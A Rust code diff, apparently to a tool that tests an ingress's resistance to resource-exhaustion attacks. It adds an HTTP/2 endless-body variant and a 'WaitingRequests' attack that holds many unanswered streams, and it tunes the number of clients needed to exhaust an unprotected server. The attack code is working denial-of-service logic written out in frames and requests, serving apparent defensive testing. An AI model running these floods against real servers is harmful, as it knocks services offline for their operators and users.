@@ -21,8 +21,8 @@ const PAUSE: Duration = Duration::from_secs(1);
 /// Time for which a client leaves responses unread before it connects again. A server may close the
 /// connection earlier.
 const UNREAD: Duration = Duration::from_secs(20);
-/// Number of concurrent requests for responses that an HTTP/2 client does not read.
-const UNREAD_STREAMS: u32 = 100;
+/// Number of concurrent requests of an HTTP/2 client that leaves them open.
+const STREAMS: u32 = 100;
 /// One of this number of clients that do not read responses uses HTTP/2, the others HTTP/1.1.
 const UNREAD_HTTP2: usize = 20;
 /// Send buffer in bytes of clients that send without end. Otherwise, the kernel of the machine
@@ -44,11 +44,14 @@ pub enum Attack {
     UnreadBodies,
     /// Sends heads of a few kilobytes that decode to hundreds of kilobytes, and reads no response.
     HeaderBombs,
-    /// Sends a body without end over HTTP/1.1. The backend must not read it.
+    /// Sends a body without end, over HTTP/2 as much as the first window allows. The backend must
+    /// not read it.
     EndlessBodies,
     /// Requests [`LARGE`] responses and reads nothing: in HTTP/1.1 one response for each
     /// connection, in HTTP/2 many, with windows for all of them.
     UnreadResponses,
+    /// Sends many requests over each connection of HTTP/2. The backend must not answer them.
+    WaitingRequests,
 }
 
 impl Attack {
@@ -58,13 +61,14 @@ impl Attack {
 
     /// The attacks on an ingress, which forwards the requests of any client. The backend responds
     /// only to requests for [`LARGE`], and reads no body.
-    pub const ON_INGRESS: [Self; 6] = [
+    pub const ON_INGRESS: [Self; 7] = [
         Self::IdleConnections,
         Self::TricklingHeads,
         Self::UnreadBodies,
         Self::HeaderBombs,
         Self::EndlessBodies,
         Self::UnreadResponses,
+        Self::WaitingRequests,
     ];
 
     /// The number of clients that exhausts an unprotected server.
@@ -75,19 +79,21 @@ impl Attack {
             // Each request makes the server ask for a review.
             Self::UnreadBodies => 100,
             Self::HeaderBombs => 400,
-            Self::EndlessBodies => 3000,
+            Self::EndlessBodies => 5200,
             // The backend has a connection for each request: 60 clients with 100 requests, and 1140
             // with one.
             Self::UnreadResponses => 1200,
+            // With 100 requests each. A process may have some 20,000 open files.
+            Self::WaitingRequests => 90,
         }
     }
 
     /// Returns whether a client uses HTTP/1.1.
     fn is_http1(self, number: usize) -> bool {
         match self {
-            Self::IdleConnections | Self::UnreadBodies | Self::HeaderBombs => false,
+            Self::IdleConnections | Self::UnreadBodies | Self::HeaderBombs | Self::WaitingRequests => false,
             Self::TricklingHeads => number.is_multiple_of(2),
-            Self::EndlessBodies => true,
+            Self::EndlessBodies => number.is_multiple_of(2),
             Self::UnreadResponses => !number.is_multiple_of(UNREAD_HTTP2),
         }
     }
@@ -157,6 +163,16 @@ impl Attack {
                 }
                 until_ended(&mut stream).await?;
             }
+            Self::EndlessBodies if !is_http1 => {
+                stream.write_all(&opening(&[])).await?;
+                let block = fields(POST, "/", name);
+                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &block)).await?;
+                for _ in 0..4 {
+                    stream.write_all(&frame(DATA, 0, 1, &[b'x'; 16_000])).await?;
+                }
+                stream.flush().await?;
+                let _still_open = tokio::time::timeout(UNREAD, until_ended(&mut stream)).await;
+            }
             Self::EndlessBodies => {
                 let head =
                     format!("POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: {}\r\n\r\n", 1_u64 << 40);
@@ -170,10 +186,15 @@ impl Attack {
                     let head = format!("GET {LARGE} HTTP/1.1\r\nHost: {name}\r\n\r\n");
                     stream.write_all(head.as_bytes()).await?;
                 } else {
-                    stream.write_all(&unread_requests(name)).await?;
+                    stream.write_all(&requests(LARGE, name)).await?;
                 }
                 stream.flush().await?;
                 // The server may wait for the client without a time limit.
+                let _still_open = tokio::time::timeout(UNREAD, until_ended(&mut stream)).await;
+            }
+            Self::WaitingRequests => {
+                stream.write_all(&requests("/", name)).await?;
+                stream.flush().await?;
                 let _still_open = tokio::time::timeout(UNREAD, until_ended(&mut stream)).await;
             }
         }
@@ -278,13 +299,13 @@ fn fields(method: u8, path: &str, name: &str) -> Vec<u8> {
     block
 }
 
-/// Returns an HTTP/2 connection's requests for large responses, and windows for all of them.
-fn unread_requests(name: &str) -> Vec<u8> {
+/// Returns the requests of an HTTP/2 connection for this path, and windows for all responses.
+fn requests(path: &str, name: &str) -> Vec<u8> {
     let mut requests = opening(&MAX_STREAM_WINDOWS);
     let more = MAX_WINDOW - FIRST_WINDOW;
     requests.extend(frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()));
-    let block = fields(GET, LARGE, name);
-    for request in 0..UNREAD_STREAMS {
+    let block = fields(GET, path, name);
+    for request in 0..STREAMS {
         requests.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * request + 1, &block));
     }
     requests
@@ -325,8 +346,8 @@ mod tests {
             let http = http2::Builder::new(TokioExecutor::new());
             let _ended = http.serve_connection(TokioIo::new(server), service).await;
         });
-        client.write_all(&unread_requests("attacked.example.com")).await.unwrap();
-        for _ in 0..UNREAD_STREAMS {
+        client.write_all(&requests(LARGE, "attacked.example.com")).await.unwrap();
+        for _ in 0..STREAMS {
             let received = tokio::time::timeout(Duration::from_secs(30), received.recv());
             assert_eq!(received.await.unwrap().unwrap(), "https://attacked.example.com/large");
         }
